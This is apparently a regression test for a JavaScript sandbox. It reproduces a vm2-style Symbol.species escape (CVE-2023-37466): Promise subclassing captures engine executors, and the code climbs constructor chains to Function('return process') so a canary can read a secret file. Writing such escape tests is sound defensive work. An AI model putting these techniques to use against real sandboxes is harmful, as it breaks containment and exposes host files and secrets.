// attack: Promise subclassing and species around capability promises: Promise.all/race/allSettled/any called with a subclass over capability promises, Promise.prototype.finally/then called with a species that captures the engine's executor, Promise.withResolvers and Promise.try called on a subclass, resolve-function reuse across promises; climb every executor, resolver and reaction the engine hands the subclass
// source: CVE-2023-37466 (vm2 Symbol.species, GHSA-cchq-frgv-rjh5); vm2 test/vm.js '[Symbol.species] attack'; ECMA-262 SpeciesConstructor / NewPromiseCapability
// needs: fs
// category: escape
// expect: blocked - executors and resolving functions are shared-realm built-ins; the subclass gains nothing from the host
const ID = '113-promise-species-subclass';
// canary payload: does something only when handed the real host `process` / node:fs
const pwnFs = (nfs) => {
  nfs.mkdirSync('/tmp/sesame-canary', { recursive: true });
  nfs.writeFileSync('/tmp/sesame-canary/' + ID, 'escaped by ' + ID);
  return nfs.readFileSync('/tmp/sesame-secret/secret.txt', 'utf8');
};
const pwn = (proc) => pwnFs(typeof proc.getBuiltinModule === 'function' ? proc.getBuiltinModule('fs') : proc.mainModule.require('fs'));
const msg = (e) => { try { return String((e && e.message) || e).slice(0, 120); } catch (_) { return 'unprintable'; } };
const tried = [];
let untold = 0;
const note = (s) => { if (tried.length < 90) tried.push(s); else untold++; };
const attempt = async (label, thunk) => {
  try { const s = await thunk(); if (s) return { escaped: label, secret: s }; note(label + ': nothing'); }
  catch (e) { note(label + ': ' + msg(e)); }
  return undefined;
};
// every road from a value to a Function constructor: its own constructor chain and its prototypes'
const met = new Set();
const climb = async (label, v) => {
  const roads = [];
  const add = (how, f) => { if (typeof f === 'function' && !met.has(f)) { met.add(f); roads.push([how, f]); } };
  let o = v;
  for (let i = 0; i < 5 && o !== null && (typeof o === 'object' || typeof o === 'function'); i++) {
    try { add('.constructor', o.constructor); } catch (e) {}
    try { add('.constructor.constructor', o.constructor.constructor); } catch (e) {}
    try { o = Object.getPrototypeOf(o); } catch (e) { break; }
  }
  for (const [how, F] of roads) {
    const r = await attempt(label + how, () => pwn(F('return process')()));
    if (r) return r;
  }
  return undefined;
};
const climbAll = async (pairs) => {
  // a snapshot: climbing may run the attack's own traps, which record more values
  for (const [label, v] of pairs.slice(0, 2500)) { const r = await climb(label, v); if (r) return r; }
  return undefined;
};
const values = [];
class Spy extends Promise {
  constructor(executor) {
    super((res, rej) => { values.push(['engine executor', executor]); executor((v) => { values.push(['wrapped resolve arg', v]); res(v); }, rej); });
  }
  static get [Symbol.species]() { return Spy; }
}
const caps = () => [fs.readFile('data.txt', 'utf8'), fs.stat('data.txt'), fs.readdir('.')];
for (const m of ['all', 'allSettled', 'race', 'any']) {
  try { values.push(['Spy.' + m, await Promise[m].call(Spy, caps())]); } catch (e) { values.push(['Spy.' + m + ' error', e]); note('Spy.' + m + ': ' + msg(e)); }
}
try { const p = caps()[0]; values.push(['then with species on capability promise', await Spy.prototype.then.call(p, (x) => x)]); } catch (e) { note('Spy then on host promise: ' + msg(e)); }
try { values.push(['finally via Spy', await Promise.prototype.finally.call(Spy.resolve(fs.stat('data.txt')), function () { values.push(['finally args', arguments]); })]); } catch (e) { note('finally: ' + msg(e)); }
if (typeof Promise.withResolvers === 'function') {
  try { const r = Promise.withResolvers.call(Spy); values.push(['withResolvers', r], ['withResolvers.resolve', r.resolve]); r.resolve(fs.readFile('data.txt')); values.push(['withResolvers settled', await r.promise]); } catch (e) { note('withResolvers: ' + msg(e)); }
} else note('Promise.withResolvers: absent');
if (typeof Promise.try === 'function') {
  try { values.push(['Promise.try', await Promise.try.call(Spy, fs.readFile, 'data.txt')]); } catch (e) { note('Promise.try: ' + msg(e)); }
} else note('Promise.try: absent');
let res0;
const first = new Promise((r) => { res0 = r; });
values.push(['captured resolve', res0]);
try { res0(fs.readFile('data.txt', 'utf8')); values.push(['resolved with capability promise', await first]); } catch (e) {}
try { Object.defineProperty(Promise, Symbol.species, { get() { return Spy; } }); note('Promise species redefined!'); } catch (e) { note('redefine species: ' + msg(e)); }
const hit = await climbAll(values);
if (hit) return hit;
return { blocked: tried, untold };
